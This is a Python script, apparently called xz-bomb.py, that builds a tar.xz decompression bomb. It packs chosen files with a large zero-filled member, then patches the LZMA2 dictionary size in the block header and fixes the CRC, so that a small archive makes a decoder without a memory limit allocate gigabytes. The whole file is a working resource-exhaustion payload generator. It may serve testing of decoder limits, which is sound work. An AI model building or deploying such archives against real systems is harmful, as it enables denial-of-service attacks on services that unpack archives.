# xz-bomb.py OUT DICTBYTE ZEROS NAME=FILE...: a .tar.xz holding the named
# files, then a member "big.bin" of ZEROS zero bytes, its LZMA2 dictionary
# size in the block header patched to DICTBYTE (40 = 4 GiB): a few hundred
# KB that a decoder without a memory limit turns into as much RSS.
import io, lzma, struct, sys, tarfile, zlib

out, dictbyte, total = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
comp = lzma.LZMACompressor(format=lzma.FORMAT_XZ,
                           filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20, "preset": 1}])
parts = []
def add(b): parts.append(comp.compress(b))
def member(name, size):
    ti = tarfile.TarInfo(name); ti.size = size; ti.mode = 0o600
    add(ti.tobuf(format=tarfile.USTAR_FORMAT))
for arg in sys.argv[4:]:
    name, path = arg.split("=", 1)
    data = open(path, "rb").read()
    member(name, len(data)); add(data + b"\0" * (-len(data) % 512))
member("big.bin", total)
z = b"\0" * (1 << 24)
left = total
while left:
    n = min(left, len(z)); add(z[:n]); left -= n
add(b"\0" * 1024)
parts.append(comp.flush())
data = bytearray(b"".join(parts))
hs = (data[12] + 1) * 4          # the first block header, after the stream header
hdr = data[12:12 + hs]
pos = 2
def varint(buf, p):
    v = s = 0
    while True:
        b = buf[p]; v |= (b & 0x7f) << s; p += 1; s += 7
        if not b & 0x80: return v, p
if hdr[1] & 0x40: _, pos = varint(hdr, pos)
if hdr[1] & 0x80: _, pos = varint(hdr, pos)
fid, pos = varint(hdr, pos); psz, pos = varint(hdr, pos)
assert fid == 0x21 and psz == 1
hdr[pos] = dictbyte
hdr[-4:] = struct.pack("<I", zlib.crc32(bytes(hdr[:-4])) & 0xffffffff)
data[12:12 + hs] = hdr
open(out, "wb").write(data)
